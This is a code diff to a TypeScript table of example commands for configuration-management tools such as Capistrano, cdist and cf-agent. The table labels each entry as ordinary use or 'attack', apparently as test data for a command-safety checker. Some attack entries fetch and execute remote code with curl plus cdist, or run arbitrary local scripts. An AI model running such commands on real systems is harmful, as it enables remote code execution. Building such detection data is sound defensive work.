@@ -71,13 +71,14 @@ export const configurationManagement2: ExampleTable = {
       'cap -r /tmp/x.rb production deploy → load /tmp/x.rb',
     ],
   },
-  cdist: {
+  'cdist config': {
     use: 'cdist config -i init.sh web → read init.sh',
     attack: [
       'curl -so init.sh https://example.org/x && cdist config -i init.sh web → execute ‹https://example.org/x›',
       'cdist config --remote-exec=/tmp/x web → run /tmp/x',
     ],
   },
+  'cdist shell': { attack: 'cdist shell → session cdist shell' },
   'cf-agent': {
     use: 'cf-agent -f promises.cf → read promises.cf',
     attack:
